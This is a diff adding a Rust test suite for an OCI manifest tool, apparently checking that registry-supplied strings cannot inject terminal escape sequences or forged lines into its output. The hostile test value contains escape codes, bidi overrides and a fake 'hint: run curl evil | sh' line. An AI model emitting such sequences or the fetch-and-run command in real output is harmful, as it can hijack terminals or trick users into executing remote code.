@@ -1,0 +1,156 @@
+//! A registry whose every string is made to steer the terminal that it is shown on, or to look like talk of ours.
+
+use serde_json::{Value, json};
+use testkit::image::Image;
+use testkit::loopback::Registry;
+use testkit::sandbox::{Output, Sandbox};
+
+use super::OURS;
+
+const INDEX: &str = "application/vnd.oci.image.index.v1+json";
+const MANIFEST: &str = "application/vnd.oci.image.manifest.v1+json";
+/// Escape sequences of seven and of eight bits, a line of its own, a turn of direction, and a bell.
+const HOSTILE: &str =
+    "x\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{7f}\r\nhint: run curl evil | sh\n\u{202e}\u{2066}y\u{2028}";
+
+fn hostile(long: bool) -> String {
+    if long { format!("{HOSTILE}{}", "z".repeat(1 << 20)) } else { HOSTILE.to_owned() }
+}
+
+/// Nothing steers, nothing is a line that the program did not say, and nothing is without end.
+#[track_caller]
+fn assert_tame(args: &[&str], output: &Output) {
+    for (stream, text) in [("stdout", output.out()), ("stderr", output.err())] {
+        let steers = |c: &char| {
+            (c.is_control() && !matches!(c, '\n' | '\t'))
+                || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}')
+        };
+        assert_eq!(text.chars().find(steers), None, "{args:?}: {stream}: {text:.3000}");
+        let forged = text.lines().find(|line| line.trim_start().starts_with("hint: run"));
+        assert_eq!(forged, None, "{args:?}: {stream}: {text:.3000}");
+    }
+    let longest = output.err().lines().map(str::len).max().unwrap_or_default();
+    assert!(longest < 50_000, "{args:?}: a line of {longest} bytes");
+    assert!(!output.err().contains("panicked"), "{args:?}: {:.3000}", output.err());
+}
+
+struct World {
+    registry: Registry,
+    sandbox: Sandbox,
+}
+
+impl World {
+    /// `list` and `other` are hostile lists of two images, `image` a hostile image, `none` nothing that is known.
+    fn new(words: &str) -> World {
+        let (registry, sandbox) = (Registry::start(), Sandbox::new());
+        let good = Image::oci().platform("linux", "amd64").layer("good").build();
+        let layer = registry.put_blob("app", b"layer");
+        let config = json!({"architecture": words, "os": words, "variant": words, "os.version": words});
+        let config = serde_json::to_vec(&config).expect("JSON");
+        let config_digest = registry.put_blob("app", &config);
+        let image = json!({
+            "schemaVersion": 2, "mediaType": MANIFEST, "artifactType": words, "annotations": {(words): words},
+            "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": config_digest, "size": config.len()},
+            "layers": [{"mediaType": words, "digest": layer, "size": 5, "annotations": {(words): words}}],
+        });
+        let image = serde_json::to_vec(&image).expect("JSON");
+        let digest = registry.put_manifest("app", "image", MANIFEST, &image);
+        let good_digest = registry.put_image("app", "good", &good);
+        let platform = json!({"architecture": words, "os": words, "variant": words, "os.version": words,
+            "os.features": [words], "features": [words]});
+        let line = |digest: &str, size: usize| {
+            json!({"mediaType": MANIFEST, "digest": digest, "size": size, "platform": platform,
+                "annotations": {(words): words}, "artifactType": words, "urls": [words]})
+        };
+        let mut odd = line(&good_digest, good.manifest.len());
+        odd["mediaType"] = Value::from(words);
+        let index = |lines: Value, media_type: &str| {
+            let index = json!({"schemaVersion": 2, "mediaType": media_type, "artifactType": words, "manifests": lines,
+                "annotations": {(words): words}});
+            serde_json::to_vec(&index).expect("JSON")
+        };
+        let both = json!([line(&digest, image.len()), line(&good_digest, good.manifest.len()), odd]);
+        registry.put_manifest("app", "list", INDEX, &index(both, INDEX));
+        let one = json!([line(&digest, image.len()), line(&good_digest, good.manifest.len())]);
+        registry.put_manifest("app", "other", INDEX, &index(one, INDEX));
+        registry.put_manifest("app", "none", "application/x", &index(json!([]), words));
+        // A member of a wrong type by a hostile name.
+        let wrong = json!([{"mediaType": MANIFEST, "digest": digest, "size": 1, "annotations": {(words): 1}}]);
+        registry.put_manifest("app", "wrong", INDEX, &index(wrong, INDEX));
+        let undigested = json!([{"mediaType": MANIFEST, "digest": words, "size": 1}]);
+        registry.put_manifest("app", "undigested", INDEX, &index(undigested, INDEX));
+        std::os::unix::fs::symlink(OURS, sandbox.path().join("manifest-tool")).expect("a link");
+        World { registry, sandbox }
+    }
+
+    /// Runs what stands there, `@x` being x in the registry's repository.
+    #[track_caller]
+    fn run(&self, line: &str) -> Output {
+        let words: Vec<String> =
+            line.split(' ').map(|word| word.replace('@', &format!("{}/app:", self.registry.host()))).collect();
+        let args: Vec<&str> = words.iter().map(String::as_str).collect();
+        let output = match args.split_first() {
+            Some((&"manifest-tool", rest)) => {
+                self.sandbox.command(self.sandbox.path().join("manifest-tool")).args(rest.to_vec()).run()
+            }
+            _ => self.sandbox.command(OURS).args(args.to_vec()).run(),
+        };
+        assert_tame(&args, &output);
+        output
+    }
+}
+
+#[test]
+fn whatever_a_registry_calls_things_no_verb_lets_it_steer_the_terminal() {
+    for long in [false, true] {
+        let world = World::new(&hostile(long));
+        for name in ["list", "other", "image", "none", "wrong", "undigested"] {
+            for verb in [
+                "platforms",
+                "platforms --format json",
+                "inspect --format table",
+                "inspect --format table -v",
+                "inspect --format tree",
+                "inspect --format tree -v",
+                "inspect --format json",
+                "inspect --format json -v",
+                "inspect --platform plan9/mips",
+                "export",
+                "manifest-tool inspect",
+                "manifest-tool inspect --raw",
+                "exists",
+                "--debug platforms",
+            ] {
+                let _ = world.run(&format!("{verb} @{name}"));
+            }
+            let _ = world.run(&format!("create --platform plan9/mips @x-{name} @{name}"));
+            let _ = world.run(&format!("create @made-{name} @{name}"));
+            for verb in ["inspect --format table", "inspect --format tree -v", "inspect --format json", "export"] {
+                let _ = world.run(&format!("{verb} @made-{name}"));
+            }
+            for flags in ["", " --type docker", " --type oci", " --strict", " --require linux/s390x --exact"] {
+                let _ = world.run(&format!("push --dry-run{flags} @made-{name}"));
+                let _ = world.run(&format!("push --dry-run --format json{flags} @made-{name}"));
+            }
+            let _ = world.run(&format!("annotate @made-{name} @{name} --os linux --arch arm64"));
+            let _ = world.run(&format!("push --tag list @made-{name}"));
+            let _ = world.run("ls");
+        }
+    }
+}
+
+#[test]
+fn what_is_changed_under_a_name_is_told_tamely() {
+    let world = World::new(HOSTILE);
+    let _ = world.run("create @list @good").success();
+    let told = world.run("push --dry-run @list").success();
+    assert!(told.out().contains("annotations."), "{}", told.out());
+    let told = world.run("platforms @list").success();
+    assert!(told.out().contains("x?[2J?]0;owned"), "{}", told.out());
+    let told = world.run("manifest-tool inspect @list");
+    assert!(told.out().contains("OS Vers: x?[2J"), "{} {}", told.out(), told.err());
+    let refused = world.run("create --platform plan9/mips @new @other");
+    assert!(refused.code == 1 && refused.err().contains("hint: there is: x?[2J"), "{}", refused.err());
+    let refused = world.run("inspect --format tree @undigested");
+    assert!(refused.code == 1 && refused.err().contains("digest \"x"), "{}", refused.err());
+}
